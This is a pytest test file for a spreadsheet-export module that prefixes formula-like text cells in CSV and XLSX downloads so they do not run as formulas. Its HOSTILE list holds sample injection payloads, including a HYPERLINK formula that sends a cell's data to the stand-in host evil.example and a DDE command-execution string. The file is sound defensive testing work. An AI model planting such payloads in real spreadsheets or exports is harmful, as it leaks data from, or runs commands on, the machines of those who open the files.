"""Formula neutralisation of CSV and XLSX downloads (report.spreadsheet): the files are opened
with the csv module and openpyxl; no formula cell exists and the values are kept."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from report import spreadsheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=cmd|' /C calc'!A0",
]
PLAIN = ["区住房城乡建设局", "已整改 50%", "a=b", "", "说明：-3 不是公式"]


def _frame() -> pd.DataFrame:
    texts = HOSTILE + PLAIN
    n = len(texts)
    return pd.DataFrame({
        "进展说明": texts,
        "数值": [float(i) - 4.5 for i in range(n)],
        "件数": list(range(-3, n - 3)),
        "日期": [date(2026, 11, 1 + i) for i in range(n)],
        "=表头": ["x"] * n,
    })


def test_csv_text_cells_are_prefixed_and_numbers_kept() -> None:
    frame = _frame()
    data = spreadsheet.to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["进展说明", "数值", "件数", "日期", "'=表头"]
    assert len(body) == len(frame)
    for row, text, number, count in zip(body, frame["进展说明"], frame["数值"], frame["件数"], strict=True):
        assert not row[0].startswith(spreadsheet.FORMULA_STARTS)
        assert row[0] == ("'" + text if text in HOSTILE else text)
        assert float(row[1]) == number and int(row[2]) == count  # numbers (negative too) stay numbers
    assert body[0][1] == "-4.5"


def test_xlsx_has_no_formula_cell_and_keeps_values_and_types() -> None:
    frame = _frame()
    data = spreadsheet.to_xlsx_bytes({"任务/导出:[1]": frame, "第二表": frame.head(2)})
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["任务_导出__1_", "第二表"]
    ws = book["任务_导出__1_"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    read = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    # xlsx escapes a carriage return as _x000D_ (ECMA-376), which Excel reads back as one
    assert [unescape(r[0]) if r[0] is not None else "" for r in read] == frame["进展说明"].tolist()
    assert [r[1] for r in read] == frame["数值"].tolist()
    assert [r[2] for r in read] == frame["件数"].tolist()
    assert [r[3] for r in read] == [datetime(d.year, d.month, d.day) for d in frame["日期"]]
    prefixed = [unescape(row[0].value) for row in ws.iter_rows(min_row=2, max_col=1) if row[0].quotePrefix]
    assert prefixed == HOSTILE  # the formula-like texts, and only they, carry the text style
    assert ws.cell(1, 5).value == "=表头" and ws.cell(1, 5).data_type == "s"
    assert all(ws.cell(r, 2).data_type == "n" for r in range(2, ws.max_row + 1))


def test_without_neutralisation_the_same_frame_gives_live_formulas() -> None:
    """What the guard prevents: pandas' default Excel export turns the notes into formulas."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="xlsxwriter") as xw:
        _frame().to_excel(xw, index=False)
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws is not None
    assert [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_meeting_workbook_writer_keeps_strings_as_strings() -> None:
    buffer = io.BytesIO()
    with spreadsheet.excel_writer(buffer) as xw:
        _frame().to_excel(xw, index=False, sheet_name="会议")
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["会议"]
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws.cell(2, 1).value == HOSTILE[0]


@pytest.mark.parametrize("text", [*HOSTILE, "=", "-", "@", "+x"])
def test_every_formula_start_is_recognised(text: str) -> None:
    assert spreadsheet.formula_like(text)
    assert spreadsheet.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["a=1", " 区", "１=1", 5, -5.0, None])
def test_other_values_are_untouched(value: object) -> None:
    assert not spreadsheet.formula_like(value)
    assert spreadsheet.neutralise(value) == value


def test_missing_values_infinities_and_categories() -> None:
    frame = pd.DataFrame({"a": pd.Categorical(["=1", "b"]), "b": [float("nan"), float("inf")],
                          "c": [pd.NaT, pd.Timestamp("2026-11-30 08:30")]})
    ws = openpyxl.load_workbook(io.BytesIO(spreadsheet.to_xlsx_bytes({"s": frame}))).active
    assert ws is not None
    assert [[c.value for c in r] for r in ws.iter_rows(min_row=2)] == [
        ["=1", None, None], ["b", "∞", datetime(2026, 11, 30, 8, 30)]]
    assert spreadsheet.to_csv_bytes(frame).decode("utf-8-sig").splitlines()[1].startswith("'=1,")
